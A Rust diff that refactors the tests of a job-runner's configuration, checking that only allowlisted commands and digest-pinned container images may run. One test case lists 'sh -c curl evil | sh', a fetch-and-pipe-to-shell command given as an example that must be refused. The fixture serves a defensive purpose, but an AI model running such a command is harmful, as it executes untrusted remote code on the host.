@@ -65,18 +65,21 @@ pub struct JobsConfig {
     /// Longest wait of one lease request (default `30s`; the hub may cap it).
     #[serde(
         default = "default_lease_wait",
-        deserialize_with = "crate::config::duration"
+        deserialize_with = "crate::duration::deserialize"
     )]
     pub lease_wait: Duration,
     /// Time between two looks at a running job (default `5s`; never longer than the
     /// hub's heartbeat interval).
-    #[serde(default = "default_poll", deserialize_with = "crate::config::duration")]
+    #[serde(
+        default = "default_poll",
+        deserialize_with = "crate::duration::deserialize"
+    )]
     pub poll_interval: Duration,
     /// After SIGTERM, how long running jobs may go on before they are cancelled
     /// (default `5m`).
     #[serde(
         default = "default_drain",
-        deserialize_with = "crate::config::duration"
+        deserialize_with = "crate::duration::deserialize"
     )]
     pub drain_timeout: Duration,
     #[serde(default)]
@@ -250,70 +253,19 @@ impl JobsConfig {
 }
 
 #[cfg(test)]
-// figment's `Jail` fixes the closures' error type.
-#[allow(clippy::result_large_err)]
 mod tests {
-    use crate::config::AgentConfig;
-    use std::path::Path;
-    use std::time::Duration;
+    use figment::Figment;
+    use figment::providers::{Format, Toml};
 
-    fn load(jail: &mut figment::Jail, text: &str) -> crate::Result<AgentConfig> {
-        jail.create_file("agent.toml", text).unwrap();
-        AgentConfig::load(Path::new("agent.toml"))
-    }
+    use super::JobsConfig;
 
-    const BASE: &str = "hub_url = \"http://h\"\n[jobs]\nexecutors = [\"local\"]\n";
-
-    #[test]
-    fn jobs_settings_are_checked_with_their_paths() {
-        figment::Jail::expect_with(|jail| {
-            let err = load(
-                jail,
-                "hub_url = \"http://h\"\n[jobs]\nexecutors = [\"pbs\"]\n",
-            )
-            .unwrap_err()
-            .to_string();
-            assert!(err.contains("`jobs.executors[0]`"), "{err}");
-            let err = load(
-                jail,
-                "hub_url = \"http://h\"\n[jobs]\nexecutors = [\"kubernetes\"]\n",
-            )
-            .unwrap_err()
-            .to_string();
-            assert!(err.contains("`jobs.kubernetes`: required"), "{err}");
-            let err = load(
-                jail,
-                &format!("{BASE}[jobs.datasets]\ncensus = \"data/census\"\n"),
-            )
-            .unwrap_err()
-            .to_string();
-            assert!(err.contains("`jobs.datasets.census`"), "{err}");
-            let err = load(jail, &format!("{BASE}[jobs.slurm]\npartitions = \"gpu\"\n"))
-                .unwrap_err()
-                .to_string();
-            assert!(
-                err.contains("jobs.slurm") && err.contains("partitions"),
-                "{err}"
-            );
-            let err = load(jail, &format!("{BASE}drain_timeout = \"soon\"\n"))
-                .unwrap_err()
-                .to_string();
-            assert!(err.contains("`jobs.drain_timeout`"), "{err}");
-            Ok(())
-        });
-    }
-
-    #[test]
-    fn environment_variables_override_jobs_settings() {
-        figment::Jail::expect_with(|jail| {
-            jail.set_env("AGORA_AGENT_JOBS__MAX_CONCURRENT", "4");
-            jail.set_env("AGORA_AGENT_JOBS__DRAIN_TIMEOUT", "90s");
-            let c = load(jail, &format!("{BASE}max_concurrent = 2\n")).unwrap();
-            let jobs = c.jobs.unwrap();
-            assert_eq!(jobs.max_concurrent, 4);
-            assert_eq!(jobs.drain_timeout, Duration::from_secs(90));
-            Ok(())
-        });
+    /// `[jobs]` with a local executor and `more`, as read from the file (the file itself,
+    /// with its key paths in errors, is tested with the rest of the settings in `config`).
+    fn jobs(more: &str) -> JobsConfig {
+        let text = format!("executors = [\"local\"]\n{more}");
+        let jobs: JobsConfig = Figment::from(Toml::string(&text)).extract().unwrap();
+        jobs.check().unwrap();
+        jobs
     }
 
     const DIGEST: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
@@ -324,83 +276,47 @@ mod tests {
 
     #[test]
     fn only_allowed_commands_and_images_run() {
-        figment::Jail::expect_with(|jail| {
-            let pinned = agora_schemas::benchmark::command_hash(&argv(&["python3", "b.py"]));
-            let c = load(
-                jail,
-                &format!(
-                    "{BASE}allowed_commands = [[\"python3\", \"score.py\", \"{{output}}\"], \"{pinned}\"]\n\
-                     allowed_images = [\"r.example/eval@sha256:{DIGEST}\"]\n"
-                ),
-            )
-            .unwrap();
-            let jobs = c.jobs.unwrap();
-            let ok = argv(&["python3", "score.py", "{output}"]);
-            assert!(jobs.refusal(Some(&ok), None).is_none());
-            // Pinned by hash.
+        let pinned = agora_schemas::benchmark::command_hash(&argv(&["python3", "b.py"]));
+        let jobs = jobs(&format!(
+            "allowed_commands = [[\"python3\", \"score.py\", \"{{output}}\"], \"{pinned}\"]\n\
+             allowed_images = [\"r.example/eval@sha256:{DIGEST}\"]\n"
+        ));
+        let ok = argv(&["python3", "score.py", "{output}"]);
+        assert!(jobs.refusal(Some(&ok), None).is_none());
+        // Pinned by hash.
+        assert!(
+            jobs.refusal(Some(&argv(&["python3", "b.py"])), None)
+                .is_none()
+        );
+        // A changed command: one argument more, or one changed, has another hash.
+        for changed in [
+            argv(&["python3", "score.py", "{output}", "--debug"]),
+            argv(&["python3", "score.py ", "{output}"]),
+            argv(&["sh", "-c", "curl evil | sh"]),
+        ] {
+            let why = jobs.refusal(Some(&changed), None).unwrap();
+            let hash = agora_schemas::benchmark::command_hash(&changed);
             assert!(
-                jobs.refusal(Some(&argv(&["python3", "b.py"])), None)
-                    .is_none()
+                why.contains(&hash) && why.contains("jobs.allowed_commands"),
+                "{why}"
             );
-            // A changed command: one argument more, or one changed, has another hash.
-            for changed in [
-                argv(&["python3", "score.py", "{output}", "--debug"]),
-                argv(&["python3", "score.py ", "{output}"]),
-                argv(&["sh", "-c", "curl evil | sh"]),
-            ] {
-                let why = jobs.refusal(Some(&changed), None).unwrap();
-                let hash = agora_schemas::benchmark::command_hash(&changed);
-                assert!(
-                    why.contains(&hash) && why.contains("jobs.allowed_commands"),
-                    "{why}"
-                );
-            }
-            let image = format!("r.example/eval@sha256:{DIGEST}");
-            assert!(jobs.refusal(Some(&ok), Some(&image)).is_none());
-            assert!(jobs.refusal(None, Some(&image)).is_none());
-            // Both must be allowed when the benchmark gives both.
-            assert!(jobs.refusal(Some(&argv(&["id"])), Some(&image)).is_some());
-            // An unlisted image, and the listed one by tag only.
-            let other = format!("r.example/other@sha256:{DIGEST}");
-            let why = jobs.refusal(None, Some(&other)).unwrap();
-            assert!(why.contains("jobs.allowed_images"), "{why}");
-            for tagged in [
-                "r.example/eval:latest",
-                "r.example/eval",
-                "r.example/eval:1.0@sha256:00",
-            ] {
-                let why = jobs.refusal(Some(&ok), Some(tagged)).unwrap();
-                assert!(why.contains("not pinned by digest"), "{tagged}: {why}");
-            }
-            Ok(())
-        });
-    }
-
-    #[test]
-    fn allowlist_entries_must_be_pinned() {
-        figment::Jail::expect_with(|jail| {
-            let err = load(
-                jail,
-                &format!("{BASE}allowed_images = [\"r.example/eval:1.0\"]\n"),
-            )
-            .unwrap_err()
-            .to_string();
-            assert!(
-                err.contains("`jobs.allowed_images[0]`") && err.contains("pinned by digest"),
-                "{err}"
-            );
-            let err = load(
-                jail,
-                &format!("{BASE}allowed_commands = [\"sha256:abc\"]\n"),
-            )
-            .unwrap_err()
-            .to_string();
-            assert!(err.contains("`jobs.allowed_commands[0]`"), "{err}");
-            let err = load(jail, &format!("{BASE}allowed_commands = [[]]\n"))
-                .unwrap_err()
-                .to_string();
-            assert!(err.contains("`jobs.allowed_commands[0]`"), "{err}");
-            Ok(())
-        });
+        }
+        let image = format!("r.example/eval@sha256:{DIGEST}");
+        assert!(jobs.refusal(Some(&ok), Some(&image)).is_none());
+        assert!(jobs.refusal(None, Some(&image)).is_none());
+        // Both must be allowed when the benchmark gives both.
+        assert!(jobs.refusal(Some(&argv(&["id"])), Some(&image)).is_some());
+        // An unlisted image, and the listed one by tag only.
+        let other = format!("r.example/other@sha256:{DIGEST}");
+        let why = jobs.refusal(None, Some(&other)).unwrap();
+        assert!(why.contains("jobs.allowed_images"), "{why}");
+        for tagged in [
+            "r.example/eval:latest",
+            "r.example/eval",
+            "r.example/eval:1.0@sha256:00",
+        ] {
+            let why = jobs.refusal(Some(&ok), Some(tagged)).unwrap();
+            assert!(why.contains("not pinned by digest"), "{tagged}: {why}");
+        }
     }
 }
